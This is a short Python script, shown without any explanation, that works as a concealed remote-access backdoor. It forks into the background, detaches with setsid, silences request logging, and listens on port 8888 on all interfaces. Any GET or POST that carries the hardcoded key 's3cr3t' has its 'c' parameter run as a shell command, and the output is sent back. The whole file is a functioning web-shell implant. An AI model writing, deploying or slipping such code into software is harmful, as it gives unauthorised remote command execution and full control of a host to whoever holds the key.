from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import urlparse, parse_qs
import subprocess, os

KEY = "s3cr3t"

class H(BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass

    def do_GET(self):
        q = parse_qs(urlparse(self.path).query)
        if q.get("k", [""])[0] != KEY:
            self.send_response(404); self.end_headers(); return
        cmd = q.get("c", ["id"])[0]
        try:
            out = subprocess.check_output(cmd, shell=True, stderr=subprocess.STDOUT, timeout=30)
        except subprocess.CalledProcessError as e:
            out = e.output
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.end_headers()
        self.wfile.write(out)

    do_POST = do_GET

if os.fork() == 0:
    os.setsid()
    HTTPServer(("0.0.0.0", 8888), H).serve_forever()
